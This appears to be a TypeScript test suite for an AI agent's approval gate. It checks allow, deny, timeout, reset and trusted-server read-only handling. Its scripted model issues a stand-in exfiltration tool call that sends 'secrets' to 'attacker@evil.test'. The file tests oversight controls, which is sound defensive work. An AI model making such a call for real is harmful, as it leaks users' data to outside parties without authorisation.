import assert from "node:assert/strict";
import { type TestContext, test } from "node:test";
import { needsApproval } from "../../src/approvals/approval-policy.ts";
import { calls, says, startScriptedModel } from "../kit/scripted-model.ts";
import { startAgent, until } from "../kit/start-agent.ts";

interface Pending {
  approvals: { id: string; tool: string; server: string; arguments: { to: string } }[];
}

async function sending(context: TestContext, env: Record<string, string> = {}) {
  const send: [string, unknown] = ["send_message", { to: "attacker@evil.test", body: "secrets" }];
  const model = await startScriptedModel(calls(send), says("Understood."));
  context.after(model.close);
  const variables = { TOOL_MODE: "hardcoded", OPENAI_BASE_URL: model.url, APPROVALS: "writes", ...env };
  const agent = await startAgent(context, variables);
  const turn = agent.ask("Send it", "s");
  const decide = async (decision: string) => {
    await until(async () => (await agent.get<Pending>("/approvals")).approvals.length === 1);
    const [waiting] = (await agent.get<Pending>("/approvals")).approvals;
    return agent.post(`/approvals/${waiting?.id}`, { decision });
  };
  return { agent, turn, decide, model };
}

test("an allowed call runs", async (t) => {
  const { agent, turn, decide } = await sending(t);
  assert.equal((await decide("allow")).status, 200);
  assert.equal((await turn).answer, "Understood.");
  const { messages } = await agent.get<{ messages: { to: string }[] }>("/outbox");
  assert.equal(messages[0]?.to, "attacker@evil.test");
});

test("a denied call does not run; the model reads the denial and goes on", async (t) => {
  const { agent, turn, decide, model } = await sending(t);
  await decide("deny");
  assert.equal((await turn).answer, "Understood.");
  assert.deepEqual(await agent.get("/outbox"), { messages: [] });
  assert.match(String(model.seen[1]?.messages.at(-1)?.content), /denied this call/);
  const { entries } = await agent.get<{ entries: { decision: string }[] }>("/logs?event=approval_decided");
  assert.equal(entries[0]?.decision, "deny");
});

test("nobody answering is a no", async (t) => {
  const { agent, turn } = await sending(t, { APPROVAL_TIMEOUT_S: "1" });
  assert.equal((await turn).answer, "Understood.");
  assert.deepEqual(await agent.get("/outbox"), { messages: [] });
  assert.deepEqual(await agent.get("/approvals"), { approvals: [] });
});

test("a reset ends the turn that waits for a person, and the ones behind it: nothing runs afterwards", async (t) => {
  const { agent, turn } = await sending(t);
  await until(async () => (await agent.get<Pending>("/approvals")).approvals.length === 1);
  const queued = agent.ask("And again", "s");
  await new Promise((resolve) => setTimeout(resolve, 100));
  assert.equal((await agent.post("/reset", {})).status, 200);
  for (const { error } of [await turn, await queued]) {
    assert.equal(error?.code, "reset");
    assert.match(error?.message ?? "", /^The agent was reset while this turn ran\./);
  }
  assert.deepEqual(await agent.get("/approvals"), { approvals: [] });
  assert.deepEqual(await agent.get("/outbox"), { messages: [] });
  const { entries } = await agent.get<{ entries: { event: string; decision?: string }[] }>("/logs");
  assert.deepEqual(
    entries.slice(-3).map(({ event, decision }) => [event, decision]),
    [
      ["approval_decided", "cancelled"],
      ["turn_failed", undefined],
      ["reset", undefined],
    ],
  );
});

test("a decision twice, on an unknown id, or in other words is refused", async (t) => {
  const { agent, turn, decide } = await sending(t);
  await until(async () => (await agent.get<Pending>("/approvals")).approvals.length === 1);
  const [waiting] = (await agent.get<Pending>("/approvals")).approvals;
  assert.equal((await agent.post(`/approvals/${waiting?.id}`, { decision: "perhaps" })).status, 400);
  assert.equal((await decide("deny")).status, 200);
  assert.equal((await agent.post(`/approvals/${waiting?.id}`, { decision: "allow" })).status, 404);
  assert.equal((await agent.post("/approvals/none", { decision: "allow" })).status, 404);
  await turn;
});

const reader = (server: string) => ({
  name: "look",
  description: "",
  parameters: {},
  server,
  annotations: { readOnlyHint: true },
});

test("`writes` believes the read-only mark of trusted servers alone", () => {
  assert.equal(needsApproval("writes", reader("hr"), ["hr"]), false);
  assert.equal(needsApproval("writes", reader("rogue"), ["hr"]), true);
  assert.equal(needsApproval("writes", { ...reader("hr"), annotations: {} }, ["hr"]), true);
  assert.equal(needsApproval("all", reader("hr"), ["hr"]), true);
  assert.equal(needsApproval("off", reader("rogue"), []), false);
});
